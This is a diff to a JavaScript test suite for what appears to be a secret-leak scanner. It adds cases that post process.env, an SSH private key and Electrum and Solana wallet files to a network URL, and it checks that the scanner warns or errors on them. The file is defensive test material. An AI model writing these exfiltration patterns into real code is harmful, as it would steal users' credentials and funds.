@@ -82,9 +82,17 @@ describe('leaks', () => {
     ['the whole', 'fetch(u, { body: JSON.stringify(process.env) })'],
     ['a spread', 'axios.post(u, { ...process.env })'],
     ['an alias', 'const e = process.env\nfetch(u, { body: JSON.stringify(e) })'],
-    ['entries', 'for (const [k, v] of Object.entries(process.env)) fetch(u + k)'],
-  ])('warns of the environment beside a network call: %s', (_, code) => {
-    expect(warned(`import axios from "axios"\n${code}`)).toEqual(['javascript-env-dump-exfil'])
+    ['a key', 'axios.post(u, fs.readFileSync(home + "/.ssh/id_rsa"))'],
+    ['wallets', 'const w = [".electrum/wallets", ".config/solana/id.json"]\nfetch(u, { body: read(w) })'],
+  ])('refuses what is sent away: %s', (_, code) => {
+    const found = script(`import axios from "axios"\nimport fs from "fs"\n${code}`)
+    expect(found.filter((one) => one.startsWith('error'))).not.toEqual([])
+    expect(found.join(' ')).not.toMatch(/error (?!javascript-keys-sent)/)
+  })
+
+  it('warns of the environment beside a network call', () => {
+    const code = 'for (const [k, v] of Object.entries(process.env)) fetch(u + k)'
+    expect(warned(code)).toEqual(['javascript-env-dump-exfil'])
   })
 
   it.each([
